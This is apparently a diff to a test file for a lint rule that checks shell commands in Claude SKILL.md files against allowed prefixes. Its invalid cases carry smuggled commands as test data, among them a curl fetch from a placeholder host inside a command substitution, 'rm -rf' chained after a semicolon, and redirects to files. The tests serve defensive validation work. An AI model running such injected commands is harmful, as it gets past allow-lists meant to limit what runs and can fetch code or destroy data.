@@ -21,6 +21,12 @@ testRule(
         options: { commands: ['git status', 'node --version'] },
         files: { 'SKILL.md': skill('Status: !`git status --short 2>/dev/null`\n\n```!\nnode --version\n```') },
       },
+      {
+        name: 'allowed prefixes in a parsed command: quotes, && and || chains, discarded output',
+        hosts: claude,
+        options: { commands: ['git status', 'git log'] },
+        files: { 'SKILL.md': skill('- !`git status "--short" >/dev/null 2>&1 && git log -1 || git status`') },
+      },
     ],
     invalid: [
       {
@@ -38,6 +44,13 @@ testRule(
           { line: 7, column: 11, message: inline('git status; curl -s https://x.example |…') },
           { line: 8, column: 9, message: inline('git diff') },
         ],
+      },
+      {
+        name: 'substitutions, expansions, background jobs, redirects to files and near prefixes are not allowed',
+        hosts: claude,
+        options: { commands: ['git status'] },
+        files: { 'SKILL.md': skill('- !`git status $(curl -s https://x.example)`\n- !`git status &`\n- !`git status > /tmp/x`\n- !`git statusx`\n- !`git status "$HOME"`\n- !`git status; rm -rf x`\n- !`GIT_DIR=/x git status`') },
+        errors: [7, 8, 9, 10, 11, 12, 13].map((line) => ({ line, column: 3 })),
       },
       {
         name: 'fenced ```! block',
